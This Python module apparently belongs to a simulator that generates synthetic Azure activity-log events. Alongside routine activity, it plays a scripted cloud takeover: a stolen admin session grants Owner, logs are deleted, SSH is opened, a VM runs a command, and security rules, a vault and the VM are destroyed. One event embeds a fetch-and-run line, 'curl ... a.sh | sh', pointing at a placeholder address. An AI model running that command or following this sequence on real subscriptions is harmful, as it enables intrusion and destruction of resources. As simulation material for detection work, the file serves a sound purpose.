"""What happens in a simulated subscription: its everyday work, an attack told in steps, and both played live."""

import asyncio
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from random import Random

from simulator.bulk import bulk
from simulator.cast import OWNER, new_id
from simulator.cloud import Cloud
from simulator.events import Event, EventFactory, Operation
from simulator.routine import NSG, VAULT, VM, everyday, history, security_rule

__all__ = ["Live", "Step", "attack_story", "bulk", "everyday", "history", "quick_lag"]


@dataclass(frozen=True)
class Step:
    """One step of the attack: what it is, when after the start, and its events."""

    name: str
    offset: timedelta
    events: list[Event]


def attack_story(make: EventFactory, start: datetime, pace: timedelta = timedelta(minutes=2)) -> list[Step]:
    """Tell how an intruder takes over: refused in its own name, then with an administrator's stolen session.

    A new principal becomes Owner, logs go, a machine is opened and made to run a script; then network rules go, a vault
    and the machine itself.
    """
    stolen = replace(make.cast.admin, ip=make.cast.intruder.ip)
    steps = []
    for number, (name, what) in enumerate(_attack(make)):
        offset = pace * number
        steps.append(Step(name, offset, make.operation(start + offset, what, stolen if number else make.cast.intruder)))
    return steps


class Live:
    """Plays everyday work and the attack on a cloud as real time passes.

    The lag until an event can be read is Azure's, accelerated for a demo: 1 to 4 seconds for 85 % of the events and 6
    to 20 seconds for the others, where Azure takes seconds to 20 minutes. The attack starts after `attack_after`
    seconds and makes a step every `attack_pace` seconds. `sleep` is asyncio's unless a test plays faster.
    """

    def __init__(
        self,
        cloud: Cloud,
        subscription: str,
        rng: Random,
        *,
        every: float = 1.5,
        attack_after: float = 5.0,
        attack_pace: float = 2.0,
        sleep: Callable[[float], Awaitable[None]] = asyncio.sleep,
    ) -> None:
        self.cloud, self.subscription = cloud, subscription
        self.make = EventFactory(rng, cloud.subscriptions[subscription].tenant_id, subscription, quick_lag)
        self._every, self._after, self._pace, self._sleep = every, attack_after, attack_pace, sleep
        self.played: list[Step] = []
        """The steps of the attack that have happened."""

    async def run(self, seconds: float | None = None) -> None:
        """Play for so many seconds, or until cancelled."""
        start = self.cloud.clock()
        steps = attack_story(self.make, start + timedelta(seconds=self._after), timedelta(seconds=self._pace))
        while seconds is None or self._elapsed(start) < seconds:
            self._publish(everyday(self.make, self.cloud.clock()))
            while steps and steps[0].offset.total_seconds() + self._after <= self._elapsed(start):
                step = steps.pop(0)
                self._publish(step.events)
                self.played.append(step)
            await self._sleep(self.make.rng.uniform(0.5, 1.5) * self._every)

    def _elapsed(self, start: datetime) -> float:
        return (self.cloud.clock() - start).total_seconds()

    def _publish(self, events: list[Event]) -> None:
        self.cloud.publish(self.subscription, events)


def quick_lag(rng: Random) -> float:
    """Draw an accelerated lag: mostly 1 to 4 seconds, for 15 % of the events 6 to 20."""
    return rng.uniform(6, 20) if rng.random() < 0.15 else rng.uniform(1, 4)


def _attack(make: EventFactory) -> list[tuple[str, Operation]]:
    assignment = "providers/Microsoft.Authorization/roleAssignments"
    role = f"{make.path('')}/providers/Microsoft.Authorization/roleDefinitions/{OWNER}"
    grant_id, principal = new_id(make.rng), new_id(make.rng)
    wanted = {"PrincipalId": principal, "PrincipalType": "ServicePrincipal", "RoleDefinitionId": role}
    body = {"Id": grant_id, "Properties": {**wanted, "Scope": make.path("")}}
    write = "Microsoft.Authorization/roleAssignments/write"
    settings = f"{VAULT}/providers/Microsoft.Insights/diagnosticSettings/to-workspace"
    nsg = "Microsoft.Network/networkSecurityGroups"
    opened = security_rule("22", "*", 100)
    script = {"commandId": "RunShellScript", "script": ["curl -s http://198.51.100.77/a.sh | sh"]}
    return [
        ("refused write", Operation(write, f"{assignment}/{new_id(make.rng)}", body, "Failed")),
        ("owner granted", Operation(write, f"{assignment}/{grant_id}", body, code="Created")),
        ("diagnostics deleted", Operation("Microsoft.Insights/diagnosticSettings/delete", settings)),
        (
            "ssh opened",
            Operation(f"{nsg}/securityRules/write", f"{NSG}/securityRules/allow-ssh", opened, code="Created"),
        ),
        ("command run", Operation("Microsoft.Compute/virtualMachines/runCommand/action", VM, script, accepted=True)),
        ("rule deleted", Operation(f"{nsg}/securityRules/delete", f"{NSG}/securityRules/deny-all", accepted=True)),
        ("nsg deleted", Operation(f"{nsg}/delete", NSG, accepted=True)),
        ("vault deleted", Operation("Microsoft.KeyVault/vaults/delete", VAULT)),
        ("vm deallocated", Operation("Microsoft.Compute/virtualMachines/deallocate/action", VM, accepted=True)),
    ]
